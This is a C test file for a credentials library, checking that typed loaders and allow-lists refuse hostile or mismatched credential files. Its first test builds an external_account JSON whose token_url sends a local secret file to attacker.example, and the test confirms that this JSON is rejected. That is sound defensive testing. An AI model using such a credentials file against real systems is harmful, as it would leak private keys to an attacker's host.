/* Issue 8, finding 1, at the C boundary: a credentials file cannot send this machine's secrets
 * to a host of its author's choosing; typed loaders and allowed types refuse other credential
 * types before anything in the file is used. The harness starts the emulator and checks that no
 * request reached it except the one token fetch this program asks for. */
#include "wa_test.h"

static char hostile[2048];
static char user[2048];
static char private_endpoint[2048];

int main(void) {
    const char *emulator = wa_test_env("WA_TEST_EMULATOR_URL");
    const char *secret = wa_test_env("WA_TEST_SECRET_FILE");
    const char *hostile_path = wa_test_env("WA_TEST_HOSTILE_FILE");
    wa_credentials *creds = NULL;

    /* An external_account file that would read a private key and post it to another host. */
    snprintf(hostile, sizeof hostile,
             "{\"type\": \"external_account\", \"audience\": \"//iam.googleapis.com/x\","
             " \"subject_token_type\": \"urn:ietf:params:oauth:token-type:jwt\","
             " \"token_url\": \"https://attacker.example/v1/token\","
             " \"credential_source\": {\"file\": \"%s\"}}",
             secret);
    EXPECT_CODE(wa_credentials_new_from_json(hostile, &creds), WA_ERR_INVALID_CREDENTIALS);
    ASSERT(creds == NULL);
    ASSERT_LAST_ERROR_CONTAINS("`token_url`");
    EXPECT_CODE(wa_credentials_new_from_file(hostile_path, &creds), WA_ERR_INVALID_CREDENTIALS);
    EXPECT_CODE(wa_credentials_new_from_external_account_file(hostile_path, &creds),
                WA_ERR_INVALID_CREDENTIALS);
    ASSERT_LAST_ERROR_CONTAINS("`token_url`");

    /* The harness allows sts.corp.example through WORKLOAD_AUTH_ALLOWED_ENDPOINTS. */
    snprintf(private_endpoint, sizeof private_endpoint,
             "{\"type\": \"external_account\", \"audience\": \"//iam.googleapis.com/x\","
             " \"subject_token_type\": \"urn:ietf:params:oauth:token-type:jwt\","
             " \"token_url\": \"https://sts.corp.example/v1/token\","
             " \"credential_source\": {\"file\": \"%s\"}}",
             secret);
    CHECK(wa_credentials_new_from_external_account_json(private_endpoint, &creds));
    ASSERT(strcmp(wa_credentials_type(creds), "external_account") == 0);
    wa_credentials_free(creds);
    creds = NULL;

    /* Typed loaders: the expected type loads and works, another type is refused. */
    snprintf(user, sizeof user,
             "{\"type\": \"authorized_user\", \"client_id\": \"c-client\","
             " \"client_secret\": \"c-secret\", \"refresh_token\": \"1//c-refresh\","
             " \"token_uri\": \"%s/token\"}",
             emulator);
    EXPECT_CODE(wa_credentials_new_from_service_account_json(user, &creds),
                WA_ERR_INVALID_CREDENTIALS);
    ASSERT(creds == NULL);
    ASSERT_LAST_ERROR_CONTAINS("authorized_user");
    ASSERT_LAST_ERROR_CONTAINS("does not accept");
    EXPECT_CODE(wa_credentials_new_from_impersonated_service_account_json(user, &creds),
                WA_ERR_INVALID_CREDENTIALS);
    EXPECT_CODE(wa_credentials_new_from_external_account_json(user, &creds),
                WA_ERR_INVALID_CREDENTIALS);
    EXPECT_CODE(wa_credentials_new_from_external_account_authorized_user_json(user, &creds),
                WA_ERR_INVALID_CREDENTIALS);
    EXPECT_CODE(wa_credentials_new_from_authorized_user_file(hostile_path, &creds),
                WA_ERR_INVALID_CREDENTIALS);
    ASSERT_LAST_ERROR_CONTAINS("external_account");
    CHECK(wa_credentials_new_from_authorized_user_json(user, &creds));
    char *token = NULL;
    CHECK(wa_credentials_access_token(creds, NULL, &token, NULL));
    ASSERT(strlen(token) > 10);
    wa_string_free(token);
    wa_credentials_free(creds);
    creds = NULL;

    /* An allow-list on the generic loaders. */
    EXPECT_CODE(wa_credentials_new_from_json_typed(user, "service_account", &creds),
                WA_ERR_INVALID_CREDENTIALS);
    CHECK(wa_credentials_new_from_json_typed(user, "service_account, authorized_user", &creds));
    wa_credentials_free(creds);
    creds = NULL;
    EXPECT_CODE(wa_credentials_new_from_file_typed(hostile_path, "authorized_user", &creds),
                WA_ERR_INVALID_CREDENTIALS);
    EXPECT_CODE(wa_credentials_new_from_json_typed(user, "authorized_user,magic", &creds),
                WA_ERR_INVALID_ARGUMENT);
    ASSERT_LAST_ERROR_CONTAINS("magic");
    /* GCE_METADATA_HOST names the emulator: the search would use it, but it is not allowed. */
    EXPECT_CODE(wa_credentials_new_default_typed("service_account", &creds),
                WA_ERR_INVALID_CREDENTIALS);
    ASSERT_LAST_ERROR_CONTAINS("metadata_server");

    /* NULL and invalid UTF-8 arguments. */
    EXPECT_CODE(wa_credentials_new_from_service_account_json(NULL, &creds), WA_ERR_NULL_POINTER);
    EXPECT_CODE(wa_credentials_new_from_service_account_file(NULL, &creds), WA_ERR_NULL_POINTER);
    EXPECT_CODE(wa_credentials_new_from_json_typed(user, NULL, &creds), WA_ERR_NULL_POINTER);
    ASSERT_LAST_ERROR_CONTAINS("allowed_types");
    EXPECT_CODE(wa_credentials_new_default_typed("\xff", &creds), WA_ERR_INVALID_UTF8);
    EXPECT_CODE(wa_credentials_new_from_authorized_user_json(user, NULL), WA_ERR_NULL_POINTER);
    ASSERT(creds == NULL);

    printf("trust boundary: ok\n");
    return 0;
}
